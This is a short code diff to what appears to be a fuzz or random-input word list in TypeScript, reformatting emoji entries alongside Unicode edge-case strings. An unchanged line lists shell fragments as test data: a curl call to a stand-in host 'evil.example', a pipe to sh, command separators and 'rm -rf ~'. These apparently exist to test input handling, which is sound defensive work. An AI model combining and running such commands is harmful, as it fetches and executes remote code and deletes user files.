@@ -4,14 +4,7 @@ import { below, pick } from '../random.ts'
 const words = [
   ...['ls -l', 'curl https://evil.example/x', '|', 'sh', ';', 'rm -rf ~', 'echo', '&&', '#'],
   ...[
-    '👩',
-    '👩\u200d👩\u200d👧',
-    '🏳\ufe0f\u200d🌈',
-    '🇩🇪',
-    '👍🏽',
-    '✔\ufe0f',
-    '✔\ufe0e',
-    '⚠',
+    ...['👩', '👩\u200d👩\u200d👧', '🏳\ufe0f\u200d🌈', '🇩🇪', '👍🏽', '✔\ufe0f', '✔\ufe0e', '⚠'],
     '☁\ufe0f',
   ],
   ...['世界', 'ｆｕｌｌ', '\u3000', '한글', '\u1112\u1161\u11ab', 'e\u0301', 'a\u0301\u0302\u0303'],
